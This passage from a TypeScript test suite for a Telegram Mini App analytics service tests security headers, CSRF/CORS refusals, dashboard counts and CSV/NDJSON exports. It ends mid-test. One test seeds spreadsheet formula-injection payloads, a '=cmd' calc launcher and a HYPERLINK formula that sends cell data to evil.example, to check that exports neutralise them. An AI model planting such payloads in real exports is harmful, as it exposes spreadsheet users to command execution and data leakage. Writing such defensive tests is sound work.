    expect((await admin.delete('/api/apps/bob_disposable')).status).toBe(204);
    expect((await bob.get('/api/apps/bob_disposable')).status).toBe(404);
    expect((await postEvents(service.url, makeEvent('bob_disposable'), { token: bobsToken, origin: 'https://bob-disposable.example.com' })).status).toBe(400);
  });
});

/** the Content-Security-Policy's directives by name */
function csp(headers: Headers): Record<string, string> {
  const header = headers.get('content-security-policy');
  expect(header, 'a Content-Security-Policy').toBeTruthy();
  return Object.fromEntries(header!.split(';').map((part) => part.trim()).filter(Boolean).map((part) => [part.split(' ')[0]!, part.split(' ').slice(1).join(' ')]));
}

const TELEGRAM_FRAMES = 'https://web.telegram.org https://*.web.telegram.org https://webk.telegram.org https://webz.telegram.org https://weba.telegram.org';

describe('security headers', () => {
  it('sends a strict CSP, no framing, nosniff and a referrer policy with every site page and API answer', async () => {
    await create(alice, 'headers_app');
    const answers: Record<string, Answer> = {
      '/': await anonymousGet('/'),
      '/login': await anonymousGet('/login'),
      '/catalog': await anonymousGet('/catalog'),
      '/api/catalog': await anonymousGet('/api/catalog'),
      '/assets/common.js': await anonymousGet('/assets/common.js'),
      '/analytics': await alice.get('/analytics'),
      '/analytics/headers_app': await alice.get('/analytics/headers_app'),
      '/api/me': await alice.get('/api/me'),
      '/api/apps': await alice.get('/api/apps'),
      '/api/apps/headers_app/dashboard': await alice.get('/api/apps/headers_app/dashboard?days=7'),
      '/api/apps/headers_app/export.csv': await alice.get('/api/apps/headers_app/export.csv?days=7'),
      'POST /api/apps (refused)': await alice.post('/api/apps', {}),
      '/logout': await (await SiteClient.signedIn(service.url, { id: 6007, first_name: 'Kim' })).get('/logout'),
      'refused sign-in': await anonymousGet('/login/link?token=forged'),
      '/api/no-such-route (404)': await alice.get('/api/no-such-route'),
    };
    for (const [what, answer] of Object.entries(answers)) {
      expect(answer.status, what).toBeLessThan(500);
      const policy = csp(answer.headers);
      expect(policy['frame-ancestors'], what).toBe("'none'");
      expect(policy['default-src'], what).toBe("'self'");
      expect(policy['object-src'], what).toBe("'none'");
      expect(policy['base-uri'], what).toBe("'none'");
      expect(policy['script-src'], what).not.toMatch(/unsafe-inline|unsafe-eval|\*/);
      expect(answer.headers.get('x-frame-options'), what).toBe('DENY');
      expect(answer.headers.get('x-content-type-options'), what).toBe('nosniff');
      expect(answer.headers.get('referrer-policy'), what).toMatch(/^(same-origin|strict-origin-when-cross-origin)$/);
      expect(answer.headers.get('strict-transport-security'), what).toBe('max-age=15552000'); // PUBLIC_URL is https
      expect(answer.headers.get('x-powered-by'), what).toBeNull();
    }
    for (const page of ['/', '/login', '/catalog', '/analytics', '/analytics/headers_app', '/logout']) {
      expect(answers[page]!.text, `${page}: an inline script the CSP would block`).not.toMatch(/<script(?![^>]*\ssrc=)[^>]*>/);
    }
    expect(csp(answers['/analytics']!.headers)['script-src']).toBe("'self'");
    expect(answers['/api/catalog']!.headers.get('cross-origin-resource-policy')).toBe('cross-origin');
    expect(answers['/api/apps']!.headers.get('cross-origin-resource-policy')).toBe('same-origin');
  });

  it('lets /login load exactly the Login Widget: its script from telegram.org and its frame from oauth.telegram.org', async () => {
    const policy = csp((await anonymousGet('/login')).headers);
    expect(policy['script-src']).toBe("'self' https://telegram.org/js/telegram-widget.js");
    expect(policy['frame-src']).toBe('https://oauth.telegram.org');
    expect(csp((await anonymousGet('/')).headers)['frame-src']).toBe("'none'");
  });

  it('lets exactly Telegram\'s web clients frame the Mini App mode: /webapp and the pages of a session begun there', async () => {
    const webapp = await anonymousGet('/webapp');
    expect(csp(webapp.headers)['frame-ancestors']).toBe(TELEGRAM_FRAMES);
    expect(webapp.headers.get('x-frame-options')).toBeNull();
    const miniApp = new SiteClient(service.url);
    expect((await miniApp.post('/auth/webapp', { initData: signedInitData({ id: 6006, first_name: 'Judy' }) })).status).toBe(200);
    for (const path of ['/analytics', '/analytics/some_app', '/catalog', '/']) {
      const page = await miniApp.get(path);
      expect(csp(page.headers)['frame-ancestors'], path).toBe(TELEGRAM_FRAMES);
      expect(page.headers.get('x-frame-options'), path).toBeNull();
    }
    // the same user signed in with the widget in a browser: no framing at all
    const browser = await SiteClient.signedIn(service.url, { id: 6006, first_name: 'Judy' });
    expect(csp((await browser.get('/analytics')).headers)['frame-ancestors']).toBe("'none'");
    expect((await browser.get('/analytics')).headers.get('x-frame-options')).toBe('DENY');
  });

  it('leaves the mini apps\' endpoints alone: /events and the SDK script load from any site', async () => {
    const sdk = await anonymousGet('/index.js');
    expect(sdk.status).toBe(200);
    expect(sdk.headers.get('content-security-policy')).toBeNull();
    expect(sdk.headers.get('cross-origin-resource-policy')).toBeNull();
    const events = await postEvents(service.url, [makeEvent('nobody_app')], { token: 'tma_unknown' });
    expect(events.headers.get('content-security-policy')).toBeNull();
  });
});

describe('bad parameters', () => {
  it('answers 400 with a readable message to repeated, NUL-carrying and oversized parameters, never 500', async () => {
    const cases: [string, SiteClient, number, string | undefined][] = [
      ['/login/link?token=a&token=b', new SiteClient(service.url), 400, 'The query parameter "token" must be given once, as string.'],
      ['/api/apps/app_b%00', alice, 400, 'The app name must be 3–64 characters: lowercase letters, digits, "_" or "-".'],
      ['/api/apps/app_b%00/dashboard?days=7', alice, 400, undefined],
      ['/api/apps/app_b/dashboard?days=7&days=30', alice, 400, 'The query parameter "days" must be given once, as string.'],
      [`/login?next=${'a'.repeat(5000)}`, new SiteClient(service.url), 400, undefined],
      ['/analytics?all=1&all=1', alice, 400, undefined],
      ['/api/apps/%E0%A4%A', alice, 400, undefined],
    ];
    for (const [path, client, status, message] of cases) {
      const answer = await client.get(path);
      expect(answer.status, path).toBe(status);
      if (message) expect(answer.json?.message, path).toBe(message);
    }
  });
});

describe('CSRF and CORS', () => {
  it('refuses writes from another origin with 403 and changes nothing', async () => {
    const token = await create(alice, 'csrf_target');
    const before = await appRow('csrf_target');
    const writes: [string, string, unknown?][] = [
      ['POST', '/api/apps', { bot: '@csrf_new_bot', domain: 'csrf-new.example.com', app_name: 'csrf_new' }],
      ['POST', '/api/apps/csrf_target/revoke', {}],
      ['POST', '/api/apps/csrf_target/regenerate', {}],
      ['POST', '/api/apps/csrf_target/domains', { add: 'evil.example.com' }],
      ['DELETE', '/api/apps/csrf_target'],
    ];
    for (const origin of ['https://evil.example', 'null', `${service.url.replace('127.0.0.1', 'localhost')}`]) {
      for (const [method, path, body] of writes) {
        const answer = await alice.request(method, path, { body, origin });
        expect(answer.status, `${method} ${path} from ${origin}`).toBe(403);
        expect(answer.json).toEqual({ message: 'Cross-site or non-JSON request refused.' });
      }
    }
    expect(await appRow('csrf_new')).toBeNull();
    expect(await appRow('csrf_target')).toEqual(before);
    expect((await postEvents(service.url, makeEvent('csrf_target'), { token, origin: 'https://csrf-target.example.com' })).status).toBe(201);
  });

  it('accepts writes from the public address (PUBLIC_URL) when a reverse proxy passes on its own Host', async () => {
    // nginx's default proxy_pass sends Host: <upstream address>, here 127.0.0.1:<port>, while the
    // browser's Origin is the public address the user opened
    const created = await alice.post('/api/apps', { bot: '@proxied_app_bot', domain: 'proxied.example.com', app_name: 'proxied_app' }, { origin: PUBLIC_URL });
    expect(created.status, created.text).toBe(201);
    expect((await alice.post('/api/apps/proxied_app/domains', { add: 'proxied-2.example.com' }, { origin: PUBLIC_URL })).status).toBe(200);
    expect((await alice.delete('/api/apps/proxied_app', { origin: PUBLIC_URL })).status).toBe(204);
  });

  it('refuses writes that are not JSON (what a cross-site form can send) and changes nothing', async () => {
    const before = await appRow('csrf_target');
    // no body and no content type: the site's guard answers
    for (const path of ['/api/apps/csrf_target/revoke', '/api/apps/csrf_target/regenerate']) {
      const answer = await alice.request('POST', path);
      expect(answer.status, path).toBe(403);
      expect(answer.json).toEqual({ message: 'Cross-site or non-JSON request refused.' });
    }
    // form encodings: the service has no parser for them, so they are refused before any route runs
    const forms = [
      ['text/plain', '{"bot":"@form_bot","domain":"form.example.com","app_name":"form_app"}'],
      ['application/x-www-form-urlencoded', 'bot=%40form_bot&domain=form.example.com&app_name=form_app'],
      ['multipart/form-data; boundary=x', '--x\r\nContent-Disposition: form-data; name="app_name"\r\n\r\nform_app\r\n--x--\r\n'],
    ];
    for (const [type, raw] of forms) {
      for (const path of ['/api/apps', '/api/apps/csrf_target/revoke']) {
        const answer = await alice.request('POST', path, { raw, headers: { 'content-type': type! } });
        expect([403, 415], `${type} ${path}: ${answer.status} ${answer.text}`).toContain(answer.status);
      }
    }
    expect(await appRow('form_app')).toBeNull();
    expect(await appRow('csrf_target')).toEqual(before);
  });

  it('sends no CORS headers for the site API, and no allow-origin for a preflight from another origin', async () => {
    const origin = 'https://evil.example';
    for (const path of ['/api/me', '/api/apps', '/api/apps/alice_shop/dashboard?days=7', '/api/apps/alice_shop/export.csv?days=7']) {
      const answer = await alice.get(path, { origin });
      expect(answer.status, path).toBe(200);
      expect([...answer.headers.keys()].filter((name) => name.startsWith('access-control-')), path).toEqual([]);
    }
    for (const path of ['/api/apps', '/api/apps/alice_shop/revoke', '/api/apps/alice_shop']) {
      const preflight = await alice.request('OPTIONS', path, {
        origin,
        headers: { 'access-control-request-method': path === '/api/apps/alice_shop' ? 'DELETE' : 'POST', 'access-control-request-headers': 'content-type' },
      });
      expect(preflight.headers.get('access-control-allow-origin'), path).toBeNull();
      expect(preflight.headers.get('access-control-allow-credentials'), path).toBeNull();
      expect(preflight.headers.get('access-control-allow-methods'), path).toBeNull();
    }
    // the same preflight on the ingestion endpoint is allowed: the check above can see CORS headers
    const events = await alice.request('OPTIONS', '/events', { origin, headers: { 'access-control-request-method': 'POST' } });
    expect(events.headers.get('access-control-allow-origin')).toBe(origin);
  });
});

// ---------------------------------------------------------------------------------------------------
// Dashboard numbers: a seeded set of events whose answers were worked out by hand.

const DAY_MS = 24 * 3600 * 1000;
/** the UTC day `daysAgo` days before today, as YYYY-MM-DD */
const dayString = (daysAgo: number) => new Date(Date.now() - daysAgo * DAY_MS).toISOString().slice(0, 10);
/** noon UTC of that day (+ seconds): never in the future, and far from midnight */
const noon = (daysAgo: number, second: number) => String(Date.parse(`${dayString(daysAgo)}T12:00:00Z`) + second * 1000);

const FULL_FUNNEL = ['app-init', 'connection-started', 'connection-completed', 'transaction-sent-for-signature', 'transaction-signed'];
const TRICKY = { name: 'checkout', note: 'a, "quoted" value\nsecond line, with comma', empty: '', nested: { list: [1, 'two, "three"'] } };
const U = [7100000001, 7100000002, 7100000003, 7100000004];
const CSV_HEADER = 'received_at,occurred_at,event_name,session_id,user,platform,locale,start_param,is_premium,is_success,props';

/** sessions: user, day (days ago), launch dimensions and the events in order */
const SESSIONS = [
  { user: U[0], ago: 1, platform: 'ios', locale: 'en', start: 'ads', events: [...FULL_FUNNEL, 'app-hide'] },
  { user: U[1], ago: 1, platform: 'android', locale: 'ru', start: '', events: ['app-init', 'connection-started', 'connection-completed', 'custom-event'] },
  { user: U[0], ago: 1, platform: 'tdesktop', locale: 'en', start: 'ads', events: ['app-init', 'connection-started'] },
  { user: U[2], ago: 2, platform: 'ios', locale: 'de', start: 'friend', events: ['app-init', 'connection-started', 'connection-completed', 'transaction-sent-for-signature', 'transaction-signing-failed'] },
  { user: U[1], ago: 2, platform: 'android', locale: 'ru', start: '', events: ['app-init', 'custom-event'] },
  { user: U[3], ago: 5, platform: 'weba', locale: 'en', start: 'ads', events: FULL_FUNNEL },
  // in the last 30 days only
  { user: U[0], ago: 10, platform: 'ios', locale: 'en', start: 'old', events: ['app-init', 'connection-started'] },
  // in the last 90 days only
  { user: U[3], ago: 40, platform: 'macos', locale: 'fr', start: 'older', events: ['app-init'] },
];

describe('dashboard numbers and exports', () => {
  const APP = 'numbers_app';
  const ORIGIN = 'https://numbers-app.example.com';
  let appId: number;
  let seedToken: string;

  beforeAll(async () => {
    const token = (seedToken = await create(alice, APP));
    appId = (await appRow(APP))!.id;
    const events = SESSIONS.flatMap((session, index) => {
      const sessionId = crypto.randomUUID();
      return session.events.map((name, position) =>
        makeEvent(APP, {
          event_name: name,
          session_id: sessionId,
          user_id: session.user,
          platform: session.platform,
          locale: session.locale,
          start_param: session.start,
          client_timestamp: noon(session.ago, index * 60 + position),
          ...(name === 'custom-event' ? { custom_data: { ...TRICKY, session: index } } : {}),
        }),
      );
    });
    expect(events).toHaveLength(27);
    const sent = await postEvents(service.url, events, { token, origin: ORIGIN });
    expect(sent.status, sent.text).toBe(201);
  });

  /** expected for the last 7 days, worked out by hand from SESSIONS */
  const WEEK = {
    totals: { events: 24, users: 4, sessions: 6 },
    days: {
      [dayString(1)]: {
        users: 2,
        sessions: 3,
        events: 12,
        byName: { 'app-init': 3, 'connection-started': 3, 'connection-completed': 2, 'transaction-sent-for-signature': 1, 'transaction-signed': 1, 'app-hide': 1, 'custom-event': 1 },
      },
      [dayString(2)]: {
        users: 2,
        sessions: 2,
        events: 7,
        byName: { 'app-init': 2, 'connection-started': 1, 'connection-completed': 1, 'transaction-sent-for-signature': 1, 'transaction-signing-failed': 1, 'custom-event': 1 },
      },
      [dayString(5)]: {
        users: 1,
        sessions: 1,
        events: 5,
        byName: { 'app-init': 1, 'connection-started': 1, 'connection-completed': 1, 'transaction-sent-for-signature': 1, 'transaction-signed': 1 },
      },
    } as Record<string, { users: number; sessions: number; events: number; byName: Record<string, number> }>,
    funnel: [
      { name: 'connection-started', events: 5, fromPrevious: null, fromFirst: null },
      { name: 'connection-completed', events: 4, fromPrevious: 0.8, fromFirst: 0.8 },
      { name: 'transaction-sent-for-signature', events: 3, fromPrevious: 0.75, fromFirst: 0.6 },
      { name: 'transaction-signed', events: 2, fromPrevious: 2 / 3, fromFirst: 0.4 },
    ],
    dimensions: {
      platform: [{ value: 'android', sessions: 2 }, { value: 'ios', sessions: 2 }, { value: 'tdesktop', sessions: 1 }, { value: 'weba', sessions: 1 }],
      locale: [{ value: 'en', sessions: 3 }, { value: 'ru', sessions: 2 }, { value: 'de', sessions: 1 }],
      start_param: [{ value: 'ads', sessions: 3 }, { value: '', sessions: 2 }, { value: 'friend', sessions: 1 }],
    },
    eventNames: [
      { name: 'app-init', events: 6 },
      { name: 'connection-started', events: 5 },
      { name: 'connection-completed', events: 4 },
      { name: 'transaction-sent-for-signature', events: 3 },
      { name: 'custom-event', events: 2 },
      { name: 'transaction-signed', events: 2 },
      { name: 'app-hide', events: 1 },
      { name: 'transaction-signing-failed', events: 1 },
    ],
  };

  it('matches the hand-computed answers for the last 7 days', async () => {
    const answer = await alice.get(`/api/apps/${APP}/dashboard?days=7`);
    expect(answer.status).toBe(200);
    const dashboard = answer.json;
    expect(dashboard.period).toEqual({ from: dayString(6), to: dayString(0) });
    expect(dashboard.totals).toEqual(WEEK.totals);
    expect(dashboard.days.map((day: { day: string }) => day.day)).toEqual([6, 5, 4, 3, 2, 1, 0].map(dayString));
    for (const day of dashboard.days) {
      expect(day, day.day).toEqual({ day: day.day, ...(WEEK.days[day.day] ?? { users: 0, sessions: 0, events: 0, byName: {} }) });
    }
    expect(dashboard.funnel).toHaveLength(4);
    dashboard.funnel.forEach((step: (typeof WEEK.funnel)[number], index: number) => {
      const expected = WEEK.funnel[index]!;
      expect(step.name).toBe(expected.name);
      expect(step.events).toBe(expected.events);
      for (const key of ['fromPrevious', 'fromFirst'] as const) {
        if (expected[key] === null) expect(step[key]).toBeNull();
        else expect(step[key]).toBeCloseTo(expected[key]!, 10);
      }
    });
    expect(dashboard.dimensions).toEqual(WEEK.dimensions);
    expect(dashboard.eventNames).toEqual(WEEK.eventNames);
    expect(dashboard.app).toMatchObject({ app_name: APP, events_total: 27 });
    expect(dashboard.rejections).toEqual([]);
  });

  it('widens with the period: 30 days add the older session, 90 days the oldest', async () => {
    const month = (await alice.get(`/api/apps/${APP}/dashboard?days=30`)).json;
    expect(month.days).toHaveLength(30);
    expect(month.totals).toEqual({ events: 26, users: 4, sessions: 7 });
    expect(month.funnel.map((step: { events: number }) => step.events)).toEqual([6, 4, 3, 2]);
    expect(month.dimensions.platform).toEqual([{ value: 'ios', sessions: 3 }, { value: 'android', sessions: 2 }, { value: 'tdesktop', sessions: 1 }, { value: 'weba', sessions: 1 }]);
    expect(month.dimensions.start_param).toContainEqual({ value: 'old', sessions: 1 });
    const quarter = (await alice.get(`/api/apps/${APP}/dashboard?days=90`)).json;
    expect(quarter.days).toHaveLength(90);
    expect(quarter.totals).toEqual({ events: 27, users: 4, sessions: 8 });
    expect(quarter.dimensions.locale).toEqual([{ value: 'en', sessions: 4 }, { value: 'ru', sessions: 2 }, { value: 'de', sessions: 1 }, { value: 'fr', sessions: 1 }]);
    for (const days of ['1', '365', 'abc', '']) {
      const bad = await alice.get(`/api/apps/${APP}/dashboard?days=${days}`);
      expect(bad.status, days).toBe(400);
      expect(bad.json).toEqual({ message: 'days must be 7, 30 or 90', field: 'days' });
    }
  });

  it('equals a direct count over the raw events for every period', async () => {
    const sql = service.store.sql;
    for (const days of [7, 30, 90]) {
      const dashboard = (await alice.get(`/api/apps/${APP}/dashboard?days=${days}`)).json;
      const args = [appId, dashboard.period.from, dashboard.period.to];
      const where = 'app_id = $1 AND day BETWEEN $2::date AND $3::date';
      const [totals] = await sql.query<{ events: number; users: number }>(
        `SELECT count(*)::int AS events, count(DISTINCT user_key)::int AS users FROM events WHERE ${where}`,
        args,
      );
      const perDay = await sql.query<{ day: string; users: number; sessions: number; events: number }>(
        `SELECT day::text, count(DISTINCT user_key)::int AS users, count(DISTINCT session_id)::int AS sessions, count(*)::int AS events
         FROM events WHERE ${where} GROUP BY day`,
        args,
      );
      const perName = await sql.query<{ day: string; event_name: string; events: number }>(
        `SELECT day::text, event_name, count(*)::int AS events FROM events WHERE ${where} GROUP BY 1, 2`,
        args,
      );
      const dimensions = await sql.query<{ dimension: string; value: string; sessions: number }>(
        `SELECT d.dimension, d.value, count(*)::int AS sessions
         FROM (SELECT DISTINCT ON (day, session_id) day, session_id, platform, locale, start_param FROM events WHERE ${where} ORDER BY day, session_id, received_at) s
         CROSS JOIN LATERAL (VALUES ('platform', coalesce(s.platform, '')), ('locale', coalesce(s.locale, '')), ('start_param', coalesce(s.start_param, ''))) AS d(dimension, value)
         GROUP BY 1, 2`,
        args,
      );
      const raw = new Map(perDay.map((row) => [row.day, row]));
      expect(dashboard.totals, `${days} days`).toEqual({
        events: totals!.events,
        users: totals!.users,
        sessions: perDay.reduce((sum, row) => sum + row.sessions, 0),
      });
      for (const day of dashboard.days) {
        const row = raw.get(day.day) ?? { users: 0, sessions: 0, events: 0 };
        expect({ users: day.users, sessions: day.sessions, events: day.events }, day.day).toEqual({ users: row.users, sessions: row.sessions, events: row.events });
        const names = Object.fromEntries(perName.filter((entry) => entry.day === day.day).map((entry) => [entry.event_name, entry.events]));
        expect(day.byName, day.day).toEqual(names);
      }
      const funnelSql = ['connection-started', 'connection-completed', 'transaction-sent-for-signature', 'transaction-signed'].map((name) =>
        perName.filter((entry) => entry.event_name === name).reduce((sum, entry) => sum + entry.events, 0),
      );
      // in this data set every session has each step at most once: counted as events or as sessions, the same
      const funnelSessions = await sql.query<{ event_name: string; sessions: number }>(
        `SELECT event_name, count(DISTINCT (day, session_id))::int AS sessions FROM events WHERE ${where} GROUP BY 1`,
        args,
      );
      expect(funnelSql).toEqual(['connection-started', 'connection-completed', 'transaction-sent-for-signature', 'transaction-signed'].map(
        (name) => funnelSessions.find((row) => row.event_name === name)?.sessions ?? 0,
      ));
      expect(dashboard.funnel.map((step: { events: number }) => step.events)).toEqual(funnelSql);
      for (const dimension of ['platform', 'locale', 'start_param']) {
        const expected = dimensions
          .filter((row) => row.dimension === dimension)
          .map(({ value, sessions }) => ({ value, sessions }))
          .sort((a, b) => b.sessions - a.sessions || (a.value < b.value ? -1 : 1));
        expect(dashboard.dimensions[dimension], `${dimension}, ${days} days`).toEqual(expected);
      }
    }
  });

  it('shows the recent events (no user key) and the recent rejections with their reason', async () => {
    const recent = (await alice.get(`/api/apps/${APP}/recent`)).json;
    expect(recent).toHaveLength(25);
    expect(Object.keys(recent[0]).sort()).toEqual(['eventName', 'isPremium', 'isSuccess', 'locale', 'occurredAt', 'platform', 'props', 'receivedAt', 'sessionId', 'startParam']);
    expect(JSON.stringify(recent)).not.toMatch(/71000000\d\d/);
    // latest received first; among the events of one request, the latest to happen first
    const order = (event: { receivedAt: string; occurredAt: string }) => `${event.receivedAt} ${event.occurredAt}`;
    expect(recent.map(order)).toEqual(recent.map(order).sort().reverse());

    const wrongOrigin = await postEvents(service.url, makeEvent(APP), { token: seedToken, origin: 'https://copycat.example' });
    expect(wrongOrigin.status).toBe(403);
    const dashboard = (await alice.get(`/api/apps/${APP}/dashboard?days=7`)).json;
    expect(dashboard.rejections).toEqual([expect.objectContaining({ status: 403, message: 'The domain name does not match.', origin: 'https://copycat.example', count: 1 })]);
    expect(dashboard.app.last_rejection).toMatchObject({ status: 403, origin: 'https://copycat.example' });
    expect(dashboard.totals).toEqual(WEEK.totals);
  });

  /** RFC 4180: quoted fields may hold commas, doubled quotes and line breaks */
  function parseCsv(text: string): string[][] {
    const rows: string[][] = [];
    let row: string[] = [];
    let field = '';
    let quoted = false;
    for (let i = 0; i < text.length; i++) {
      const c = text[i]!;
      if (quoted) {
        if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
        else if (c === '"') quoted = false;
        else field += c;
      } else if (c === '"') quoted = true;
      else if (c === ',') row.push(field), (field = '');
      else if (c === '\n') row.push(field), rows.push(row), (row = []), (field = '');
      else if (c !== '\r') field += c;
    }
    expect(quoted).toBe(false);
    if (field !== '' || row.length > 0) row.push(field), rows.push(row);
    return rows;
  }

  it('exports exactly the period\'s events as CSV, with quoting that survives commas, quotes and newlines', async () => {
    const userKeys = new Map(
      (await service.store.sql.query<{ key: string; day: string; session_id: string }>(
        `SELECT encode(user_key, 'hex') AS key, day::text, session_id::text FROM events WHERE app_id = $1`,
        [appId],
      )).map((row) => [row.session_id, row.key]),
    );
    for (const days of [7, 30, 90]) {
      const dashboard = (await alice.get(`/api/apps/${APP}/dashboard?days=${days}`)).json;
      const answer = await alice.get(`/api/apps/${APP}/export.csv?days=${days}`);
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(answer.headers.get('content-disposition')).toBe(`attachment; filename="${APP}-${dashboard.period.from}-${dashboard.period.to}.csv"`);
      for (const id of U) expect(answer.text).not.toContain(String(id));
      const [header, ...rows] = parseCsv(answer.text);
      expect(header).toEqual(['received_at', 'occurred_at', 'event_name', 'session_id', 'user', 'platform', 'locale', 'start_param', 'is_premium', 'is_success', 'props']);
      expect(rows, `${days} days`).toHaveLength(dashboard.totals.events);
      for (const row of rows) {
        expect(row).toHaveLength(header!.length);
        const record = Object.fromEntries(header!.map((column, index) => [column, row[index]!]));
        expect(record.occurred_at!.slice(0, 10) >= dashboard.period.from && record.occurred_at!.slice(0, 10) <= dashboard.period.to).toBe(true);
        expect(record.user).toMatch(/^[0-9a-f]{32}$/);
        expect(record.user).toBe(userKeys.get(record.session_id!));
      }
      const custom = rows.filter((row) => row[2] === 'custom-event').map((row) => JSON.parse(row[10]!));
      expect(custom).toEqual(expect.arrayContaining([{ custom_data: { ...TRICKY, session: 1 } }, { custom_data: { ...TRICKY, session: 4 } }]));
      const counts: Record<string, number> = {};
      for (const row of rows) counts[row[2]!] = (counts[row[2]!] ?? 0) + 1;
      expect(Object.entries(counts).map(([name, events]) => ({ name, events })).sort((a, b) => b.events - a.events || a.name.localeCompare(b.name))).toEqual(dashboard.eventNames);
    }
  });

  it('exports exactly the period\'s events as NDJSON', async () => {
    for (const days of [7, 30, 90]) {
      const dashboard = (await alice.get(`/api/apps/${APP}/dashboard?days=${days}`)).json;
      const answer = await alice.get(`/api/apps/${APP}/export.ndjson?days=${days}`);
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
      for (const id of U) expect(answer.text).not.toContain(String(id));
      expect(answer.text.endsWith('\n')).toBe(true);
      const records = answer.text.trimEnd().split('\n').map((line) => JSON.parse(line));
      expect(records, `${days} days`).toHaveLength(dashboard.totals.events);
      expect(Object.keys(records[0]).sort()).toEqual(['event_name', 'is_premium', 'is_success', 'locale', 'occurred_at', 'platform', 'props', 'received_at', 'session_id', 'start_param', 'user']);
      expect(new Set(records.map((record) => record.user)).size).toBe(dashboard.totals.users);
      expect(records.filter((record) => record.event_name === 'custom-event').map((record) => record.props.custom_data.note)).toEqual([TRICKY.note, TRICKY.note]);
    }
    expect((await alice.get(`/api/apps/${APP}/export.xml?days=7`)).status).toBe(404);
    expect((await alice.get(`/api/apps/${APP}/export.csv?days=12`)).status).toBe(400);
  });

  it('exports CSV no spreadsheet can run: every text cell quoted, no formula after any separator', async () => {
    const token = await create(alice, 'csv_formula');
    const hostile = 'x;=HYPERLINK("https://evil.example/?"&A1;"open");+1|@SUM(1)\t-2,=3';
    const events = [
      makeEvent('csv_formula', { platform: '=cmd|" /C calc"!A0', locale: 'en;=1+1', start_param: '@import', custom_data: { note: hostile, list: ['a;-1+2', 'b|=3'], n: -5 } }),
      makeEvent('csv_formula', { platform: 'ios', custom_data: { note: 'plain' } }),
    ];
    const posted = await postEvents(service.url, events, { token, origin: 'https://csv-formula.example.com' });
    expect(posted.status, posted.text).toBe(201);
    const answer = await eventually(async () => {
      const csv = await alice.get('/api/apps/csv_formula/export.csv?days=7');
      return csv.text.trimEnd().split('\n').length === 3 ? csv : undefined;
    }, 'both events in the export');
    const [header, ...lines] = answer.text.trimEnd().split('\n');
    expect(header).toBe(CSV_HEADER);
    // what a spreadsheet sees when it splits on any of these, with or without honouring quotes
    for (const separator of [',', ';', '\t', '|']) {
      for (const line of lines) {
        for (const piece of line!.split(separator)) {
          expect(piece.replace(/^"/, ''), `split on ${JSON.stringify(separator)}: ${piece}`).not.toMatch(/^[=+\-@\t\r]/);
        }
      }
    }
    const rows = parseCsv(answer.text).slice(1);
    for (const row of rows) {
      expect(row).toHaveLength(11);
      for (const [index, cell] of row.entries()) if (![8, 9].includes(index)) expect(lines.join('\n')).toContain(`"${cell.replace(/"/g, '""')}"`);
    }
    const record = rows.find((row) => row[10]!.includes('HYPERLINK'))!;
    // the props stay the exact JSON of what was sent
    expect(JSON.parse(record[10]!)).toEqual({ custom_data: events[0]!.custom_data });
    // text cells are kept readable: a quote mark before each formula start
    expect(record[5]).toBe(`'=cmd|" /C calc"!A0`);
    expect(record[6]).toBe(`en;'=1+1`);
    expect(record[7]).toBe(`'@import`);
  });

  it('exports a header only for an app without events in the period', async () => {
    await create(alice, 'quiet_app');
    const csv = await alice.get('/api/apps/quiet_app/export.csv?days=7');
    expect(csv.status).toBe(200);
    expect(csv.text).toBe(`${CSV_HEADER}\n`);
    const ndjson = await alice.get('/api/apps/quiet_app/export.ndjson?days=7');
    expect(ndjson.status).toBe(200);
    expect(ndjson.text).toBe('');
  });
});

describe('wallet funnel of real sessions', () => {
  it('never shows a step above the one before it, nor a conversion above 100%', async () => {
    // what wallets really do: connect once and send several transactions; or restore yesterday's
    // connection (no connection-started/completed today) and send one
    const token = await create(alice, 'funnel_app');
    const twice = crypto.randomUUID();
    const restored = crypto.randomUUID();
    const steps = (session: string, user: number, names: string[]) =>
      names.map((event_name, index) => makeEvent('funnel_app', { event_name, session_id: session, user_id: user, client_timestamp: noon(1, index), custom_data: { index } }));
    const events = [
      ...steps(twice, 7300000001, ['app-init', 'connection-started', 'connection-completed', 'transaction-sent-for-signature', 'transaction-signed', 'transaction-sent-for-signature', 'transaction-signed', 'transaction-sent-for-signature', 'transaction-signed']),
      ...steps(restored, 7300000002, ['app-init', 'connection-restoring-completed', 'transaction-sent-for-signature', 'transaction-signed']),
    ];
    expect((await postEvents(service.url, events, { token, origin: 'https://funnel-app.example.com' })).status).toBe(201);
    const { funnel } = (await alice.get('/api/apps/funnel_app/dashboard?days=7')).json as { funnel: { name: string; sessions: number; fromPrevious: number | null; fromFirst: number | null }[] };
    const shown = funnel.map((step) => `${step.name} ${step.sessions} (${step.fromPrevious}, ${step.fromFirst})`).join('; ');
    funnel.forEach((step, index) => {
      if (index > 0) expect(step.sessions, shown).toBeLessThanOrEqual(funnel[index - 1]!.sessions);
      for (const rate of [step.fromPrevious, step.fromFirst]) if (rate !== null) expect(rate, shown).toBeLessThanOrEqual(1);
    });
    // only the first session took the steps in order; the restored one never started a connection here
    expect(funnel.map((step) => step.sessions)).toEqual([1, 1, 1, 1]);
  });
});

describe('dashboard and exports beyond one page of data', () => {
  it('keeps every dimension\'s top values when another dimension has hundreds of values', async () => {
    // 320 sessions, each from its own campaign link; all but one on iOS, one on the web
    const token = await create(alice, 'campaigns_app');
    const events = Array.from({ length: 320 }, (_, index) =>
      makeEvent('campaigns_app', {
        user_id: 8100000000 + index,
        platform: index === 319 ? 'weba' : 'ios',
        locale: 'en',
        start_param: `campaign_${String(index).padStart(3, '0')}`,
        client_timestamp: noon(1, index),
      }),
    );
    for (let start = 0; start < events.length; start += 100) {
      const sent = await postEvents(service.url, events.slice(start, start + 100), { token, origin: 'https://campaigns-app.example.com' });
      expect(sent.status, sent.text).toBe(201);
    }
    const dashboard = (await alice.get('/api/apps/campaigns_app/dashboard?days=7')).json;
    expect(dashboard.totals).toEqual({ events: 320, users: 320, sessions: 320 });
    expect(dashboard.dimensions.locale).toEqual([{ value: 'en', sessions: 320 }]);
    expect(dashboard.dimensions.start_param).toEqual(Array.from({ length: 20 }, (_, index) => ({ value: `campaign_${String(index).padStart(3, '0')}`, sessions: 1 })));
    expect(dashboard.dimensions.platform).toEqual([{ value: 'ios', sessions: 319 }, { value: 'weba', sessions: 1 }]);
  });

  it('exports every event of a period larger than one export page (5,000 rows), each once', async () => {
    const token = await create(alice, 'volume_app');
    const total = 5_250;
